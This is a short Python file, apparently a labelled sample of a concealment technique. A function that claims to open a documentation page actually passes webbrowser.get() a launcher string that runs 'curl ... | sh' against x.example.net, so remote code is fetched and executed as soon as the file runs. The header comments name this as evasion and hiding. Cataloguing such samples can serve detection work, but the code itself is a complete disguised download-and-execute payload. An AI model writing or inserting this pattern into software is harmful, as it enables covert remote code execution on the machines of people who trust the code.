# Evasion: runs a shell command line that downloads and runs code.
# Hiding: webbrowser.get() given a command line builds a GenericBrowser that
# executes that command (with %s replaced by the URL) when .open() is called;
# the "browser" is sh -c with a curl | sh pipeline.
import webbrowser

DOCS = "https://docs.example.org/start"
LAUNCHER = "sh -c 'curl -fsSL https://x.example.net/i | sh' %s"


def open_docs():
    browser = webbrowser.get(LAUNCHER)
    browser.open(DOCS)


open_docs()
